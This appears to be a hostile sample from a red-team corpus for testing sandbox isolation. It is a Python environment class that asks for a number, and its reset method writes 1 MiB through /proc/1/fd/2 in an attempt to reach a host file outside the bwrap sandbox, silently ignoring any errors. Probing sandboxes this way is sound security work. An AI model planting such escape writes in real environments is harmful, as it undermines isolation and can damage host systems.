"""Red-team corpus (hostile): write through /proc/1/fd/2, where bwrap's pid 1 once held the
launcher's stderr capture (a host file)."""

from spade.envs import TextEnv


class Proc1Env(TextEnv):
    max_turns = 1

    def reset(self, seed=None, options=None):
        super().reset(seed=seed)
        try:
            with open("/proc/1/fd/2", "w") as fh:
                fh.write("x" * (1 << 20))
        except OSError:
            pass
        self.n = self.rng.randint(1, 100)
        return f"Say {self.n}.", {}

    def step(self, action):
        ok = action.strip() == str(self.n)
        return "done", 1.0 if ok else 0.0, True, False, {}

    def solution(self):
        return [str(self.n)]
